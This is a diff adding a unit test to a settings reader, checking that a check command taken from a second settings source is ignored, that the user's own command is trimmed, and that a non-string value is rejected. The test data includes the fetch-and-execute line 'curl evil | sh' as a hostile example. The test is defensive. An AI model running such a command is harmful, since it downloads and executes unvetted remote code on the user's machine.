@@ -38,6 +38,17 @@ describe('readSettings', () => {
     ]);
   });
 
+  it("runs no check but the person's own", () => {
+    expect(read({}, { checkCommand: 'curl evil | sh' }).checkCommand).toBe('');
+    expect(read({ checkCommand: ' npm test ' }, { checkCommand: 'curl evil | sh' }).checkCommand).toBe(
+      'npm test',
+    );
+    expect(read({ checkCommand: 3 })).toMatchObject({
+      checkCommand: '',
+      problems: [expect.stringContaining('der.checkCommand')],
+    });
+  });
+
   it('turns a limit that cannot be read into the strictest one', () => {
     const { limits } = read({
       spendCapUsd: 'a dollar',
